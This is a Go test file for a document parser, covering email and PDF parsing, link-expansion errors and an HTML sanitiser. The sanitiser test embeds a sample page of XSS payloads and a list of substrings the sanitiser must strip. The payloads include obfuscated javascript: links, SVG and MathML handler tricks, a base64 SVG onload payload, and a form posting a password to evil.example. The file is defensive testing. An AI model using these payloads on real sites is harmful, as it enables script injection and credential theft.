		strings.ReplaceAll(strings.Join(wantBody, "\n\n"), "\n", "\r\n") + "\r\n"
	a, err := Parse("fw.eml", []byte(msg))
	if err != nil {
		t.Fatal(err)
	}
	if a.Title != wantTitle || a.Paragraphs[0] != wantBody[0] || len(a.Paragraphs) != len(wantBody) {
		t.Errorf("title %q, %d paragraphs, first %.50q", a.Title, len(a.Paragraphs), a.Paragraphs[0])
	}
}

func TestNoPanicOnDamagedInput(t *testing.T) {
	files, _ := filepath.Glob("testdata/good/*")
	for _, f := range files {
		data, _ := os.ReadFile(f)
		for _, cut := range []int{1, 7, len(data) / 3, len(data) / 2, len(data) - 3} {
			if cut <= 0 || cut >= len(data) {
				continue
			}
			a, err := Parse(f, data[:cut])
			if err != nil {
				var ie *domain.InputError
				if !errors.As(err, &ie) || ie.Reason == "" {
					t.Errorf("%s cut at %d: %v is not an InputError", f, cut, err)
				}
				continue
			}
			for _, p := range a.Paragraphs {
				if !utf8.ValidString(p) || strings.TrimSpace(p) == "" {
					t.Errorf("%s cut at %d: bad paragraph %q", f, cut, p)
				}
			}
		}
	}
}

// A page printed from a browser carries its date, title, URL and page count
// at the edges; a single page has no repetition to give them away.
func TestPDFBrowserChrome(t *testing.T) {
	page := []pdfLine{
		{text: "3/3/26, 10:15 AM Talks fail - Briefdesk News", edge: true},
		{text: "Talks fail", edge: true},
		{text: "The talks ended without a deal."},
		{text: "They will meet again in May.", edge: true},
		{text: "https://news.example/world/talks 1/1", edge: true},
	}
	pages := [][]pdfLine{page}
	removeRunning(pages)
	var got []string
	for _, l := range pages[0] {
		got = append(got, l.text)
	}
	if strings.Join(got, "|") != "Talks fail|The talks ended without a deal.|They will meet again in May." {
		t.Errorf("kept %q", got)
	}
}

func TestExpandReasons(t *testing.T) {
	_, errs := Expand([]string{"ftp://example.org/a.txt", "no/such/file.txt"})
	if len(errs) != 2 {
		t.Fatalf("errors: %v", errs)
	}
	for i, want := range []string{"only http and https links", "no such file or folder"} {
		if !strings.Contains(errs[i].Error(), want) {
			t.Errorf("error %d = %q, want %q", i, errs[i], want)
		}
	}
}

// The stored page goes through an allow-list: markup a deny-list would
// have to know about one by one (styles, forms, SVG and MathML tricks,
// data: and entity-obfuscated javascript: links, refreshes, base and
// link tags) is not kept (a refresh loses its http-equiv, which leaves an
// inert meta tag), while the article's text, headings, links and
// authorship meta tags are.
func TestStoredPageAllowList(t *testing.T) {
	page := `<!doctype html><html lang="en"><head><title>Harbour talks resume</title>
<meta name="author" content="Ines Kovac"><meta http-equiv="refresh" content="0;url=https://refresh.example/">
<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">
<style>body{background:url(javascript:alert(1))}</style></head><body>
<article><h1>Harbour talks resume</h1>
<p style="background:url(javascript:alert(2))">Negotiators met in Split on Monday to pool their coastguard patrols, officials said.</p>
<p>A <a href="https://example.org/report">report</a> and a <a href="jav&#x09;ascript:alert(3)">trap</a>.</p>
<form action="https://evil.example/steal"><input name="pw" onfocus="alert(4)" autofocus><button formaction="javascript:alert(5)">Go</button></form>
<svg><animate onbegin="alert(6)" attributeName="x"></animate></svg>
<math><mtext><a href="javascript:alert(7)">m</a></mtext></math>
<details open ontoggle="alert(8)"><summary>More</summary></details>
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoOSk+" alt="x"><img src="https://example.org/photo.jpg" alt="The harbour">
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y.swf">
</article></body></html>`
	a, err := Parse("talks.html", []byte(page))
	if err != nil {
		t.Fatal(err)
	}
	stored := strings.ToLower(string(a.Origin.Original))
	for _, bad := range []string{"<style", "<form", "<input", "<button", "<svg", "<animate", "<object", "<embed", "<base",
		"<link", "http-equiv", "javascript", "data:", "onfocus", "onbegin", "ontoggle", "evil.example", "alert("} {
		if strings.Contains(stored, bad) {
			t.Errorf("stored page keeps %q", bad)
		}
	}
	for _, keep := range []string{"<title>harbour talks resume</title>", "<h1>", "pool their coastguard patrols",
		`href="https://example.org/report"`, `src="https://example.org/photo.jpg"`, `name="author"`, "ines kovac"} {
		if !strings.Contains(stored, keep) {
			t.Errorf("stored page lost %q", keep)
		}
	}
}
